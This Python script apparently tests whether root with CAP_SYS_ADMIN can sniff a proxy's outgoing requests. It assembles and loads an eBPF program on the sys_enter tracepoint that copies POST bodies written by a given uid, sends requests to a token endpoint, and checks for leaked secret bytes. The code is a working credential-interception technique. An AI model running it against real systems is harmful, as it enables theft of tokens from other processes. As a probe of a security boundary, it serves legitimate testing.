# Root with CAP_SYS_ADMIN and without CAP_BPF: a program at the tracepoint of system calls runs inside the proxy, and
# reads there what it writes with write(2) and begins with POST. x86-64. Prints `trace leak`, `trace nothing` or an errno.
# argv: the proxy's uid, the needle in hex, and who shall be asked for an answer meanwhile (no socket: only try).
import ctypes, errno, socket, struct, sys

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
SIZE, WRITE, SI, SAMPLE, PIECE = 4096, 1, 104, 2048, 64
POST = int.from_bytes(b"POST", "little")
MAP_CREATE, MAP_LOOKUP, PROG_LOAD, RAW_TRACEPOINT_OPEN = 0, 1, 5, 17
GET_UID, READ_KERNEL, READ_USER, LOOKUP = 15, 113, 112, 1


def bpf(command, attributes):
    got = libc.syscall(321, command, attributes.ljust(128, b"\0"), 128)
    if got < 0:
        print("trace", errno.errorcode[ctypes.get_errno()], flush=True)
        sys.exit()
    return got


def line(op, dst=0, src=0, off=0, imm=0):
    return struct.pack("<BBhi", op, dst | src << 4, off, imm)


def call(function):
    return line(0x85, imm=function)


def program(uid, table):
    body = [
        line(0xBF, 6, 1),  # r6 = context
        call(GET_UID),
        line(0x67, 0, imm=32),
        line(0x77, 0, imm=32),
        ("unless", 0, uid),
        line(0x79, 2, 6, 8),  # r2 = number
        ("unless", 2, WRITE),
        line(0x79, 3, 6, 0),  # r3 = registers
        line(0x07, 3, imm=SI),
        line(0xBF, 1, 10),
        line(0x07, 1, imm=-8),
        line(0xB7, 2, imm=8),
        call(READ_KERNEL),
        line(0x79, 3, 10, -8),  # r3 = the bytes
        line(0xBF, 1, 10),
        line(0x07, 1, imm=-24),
        line(0xB7, 2, imm=4),
        call(READ_USER),
        line(0x61, 2, 10, -24),
        ("unless", 2, POST),
        line(0x62, 10, off=-28),
        line(0x18, 1, 1, imm=table),
        line(0),
        line(0xBF, 2, 10),
        line(0x07, 2, imm=-28),
        call(LOOKUP),
        ("if zero", 0, 0),
        line(0xBF, 7, 0),  # r7 = the value
    ]
    # In pieces: a page that nobody has written to yet cannot be read from here.
    for offset in range(0, SAMPLE, PIECE):
        body += [
            line(0xBF, 1, 7),
            line(0x07, 1, imm=offset),
            line(0xB7, 2, imm=PIECE),
            line(0x79, 3, 10, -8),
            line(0x07, 3, imm=offset),
            call(READ_USER),
        ]
    jumps = {"unless": 0x55, "if zero": 0x15}
    code = [
        one if isinstance(one, bytes) else line(jumps[one[0]], one[1], 0, len(body) - at - 1, one[2])
        for at, one in enumerate(body)
    ]
    return b"".join(code + [line(0xB7), line(0x95)])


uid, needle = int(sys.argv[1]), bytes.fromhex(sys.argv[2])
table = bpf(MAP_CREATE, struct.pack("<IIII", 2, 4, SIZE, 1))
code = program(uid, table)
held = [ctypes.create_string_buffer(part) for part in (code, b"GPL", b"sys_enter")]
at = [ctypes.addressof(one) for one in held]
loaded = bpf(PROG_LOAD, struct.pack("<IIQQIIQI", 17, len(code) // 8, at[0], at[1], 0, 0, 0, 0))
bpf(RAW_TRACEPOINT_OPEN, struct.pack("<QI", at[2], loaded))
for path in sys.argv[3:]:
    guest = socket.socket(socket.AF_UNIX)
    guest.connect(path)
    guest.sendall(b"POST /v1/tokens/oidc HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}")
    while guest.recv(4096):
        pass
key, value = ctypes.create_string_buffer(4), ctypes.create_string_buffer(SIZE)
bpf(MAP_LOOKUP, struct.pack("<IIQQQ", table, 0, ctypes.addressof(key), ctypes.addressof(value), 0))
print("trace", "leak" if needle in value.raw else "nothing", flush=True)
